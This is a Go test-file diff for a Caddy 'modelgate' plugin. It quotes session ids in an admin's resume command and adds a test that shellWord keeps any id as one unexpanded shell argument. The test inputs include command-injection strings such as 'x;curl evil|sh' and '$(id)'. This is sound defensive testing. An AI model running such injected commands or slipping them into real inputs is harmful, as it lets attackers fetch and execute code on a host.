@@ -1,6 +1,7 @@
 package breaker
 
 import (
+	"os/exec"
 	"strings"
 	"testing"
 )
@@ -24,9 +25,28 @@ func TestChatLineKeepsTheResumeCommandWhole(t *testing.T) {
 	sid := strings.Repeat("a", 76) + "&&&b" + strings.Repeat("c", 48)
 	for _, action := range []string{ActionPause, ActionStop} {
 		line := chatLine(Trip{Action: action, SessionID: sid, KeyID: "key_abc"}, "looping", "carol")
-		want := "`caddy modelgate resume " + strings.Repeat("a", 76) + "&amp;&amp;&amp;b" + strings.Repeat("c", 48) + " --api-key-id key_abc`"
+		want := "`caddy modelgate resume '" + strings.Repeat("a", 76) + "&amp;&amp;&amp;b" + strings.Repeat("c", 48) + "' --api-key-id key_abc`"
 		if !strings.Contains(line, want) {
 			t.Errorf("%s: line %q lacks the whole command %q", action, line, want)
 		}
+	}
+}
+
+// TestShellWordIsOneArgument: whatever the client put in its session id,
+// the resume command an admin pastes into a shell passes it as one
+// argument, unexpanded.
+func TestShellWordIsOneArgument(t *testing.T) {
+	sh, err := exec.LookPath("sh")
+	if err != nil {
+		t.Skip("no sh")
+	}
+	for _, id := range []string{"sess-1", "x;curl evil|sh", "a'b", "$(id)", "`id`", "a b", "", "''", `\'`, "key_abc", "*"} {
+		out, err := exec.Command(sh, "-c", "printf '[%s]' "+shellWord(id)).Output()
+		if err != nil || string(out) != "["+id+"]" {
+			t.Errorf("shellWord(%q) = %s: the shell read %q (%v)", id, shellWord(id), out, err)
+		}
+	}
+	if got := shellWord("sess-1"); got != "sess-1" {
+		t.Errorf("a plain id is quoted: %s", got)
 	}
 }
